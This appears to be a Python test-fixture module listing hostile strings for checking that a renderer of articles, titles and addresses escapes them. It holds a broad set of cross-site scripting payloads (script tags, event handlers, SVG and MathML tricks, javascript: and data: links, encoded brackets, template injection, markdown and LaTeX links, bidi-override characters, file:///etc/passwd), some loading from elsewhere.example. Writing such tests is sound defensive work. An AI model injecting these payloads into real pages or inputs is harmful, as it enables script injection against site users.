"""Hostile text as it may stand in an article, a title, a publisher's name, an address or a question.

Each tries to run `alert`, to load something from elsewhere.example, to be read as markup, or to reach beyond its place.
Shown as text, each is harmless; `RUNS` would run or load in a page that trusts it.
"""

from __future__ import annotations

RUNS = (
    # Scripts and handlers.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "</p></div></article><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<b onmouseover=alert(1) style=position:fixed;inset:0>hover</b>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<a href=# onclick=alert(1)>x</a>",
    '<button data-ask="alert(1)" onclick=alert(1)>ask</button>',
    "<form action=//elsewhere.example><input name=q></form>",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    # Frames, objects, styles, and what loads from elsewhere.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=//elsewhere.example/x.swf></object>",
    "<embed src=//elsewhere.example/x>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>@import '//elsewhere.example/x.css';</style>",
    "<div style='background:url(//elsewhere.example/x.png)'>x</div>",
    "<img src=//elsewhere.example/pixel.png>",
    "<img srcset='//elsewhere.example/a.png 1x'>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "<base href=//elsewhere.example/>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # Addresses.
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    # Entities, and other ways to write a bracket.
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "＜script＞alert(1)＜/script＞",
    # Templates: JavaScript, Handlebars, Jinja, Vue and others.
    "${alert(1)}",
    "`${alert(1)}`",
    "`+alert(1)+`",
    "\\${alert(1)}`;alert(1);`",
    "{{constructor.constructor('alert(1)')()}}",
    "{{{value}}} {{#each value}}{{this}}{{/each}}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "#{alert(1)} <%= alert(1) %> @children",
)
READS = (
    # Markdown.
    "[x](javascript:alert(1))",
    "![x](https://elsewhere.example/x.png)",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "**bold** _it_ `code` ~~gone~~ # no heading",
    "| a | b |\n|---|---|\n| ![x](//elsewhere.example/x.png) | c |",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    # LaTeX, as KaTeX and MathJax have it.
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\includegraphics{//elsewhere.example/x.png}$",
    "\\(\\url{javascript:alert(1)}\\) \\[\\unicode{x3c}\\]",
    # Direction and what cannot be seen.
    "\u202egnp.exe\u202c tons",
    "\u2066\u202e(1)trela\u2069",
    "\u200fright\u200e left \u061c",
    "zero\u200bwidth\u200djoin\ufeff",
    "Z\u0351\u036b\u0343\u032a\u0322a\u0363\u034bl\u034cg\u0334o",
)
PAYLOADS = RUNS + READS
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//elsewhere.example/x",
    "https:elsewhere.example",
    'https://news.example/"onmouseover="alert(1)',
    "https://news.example/'><img src=x onerror=alert(1)>",
    "https://news.example/${alert(1)}{{x}}",
    "https://news.example/#:~:text=x<script>alert(1)</script>",
)
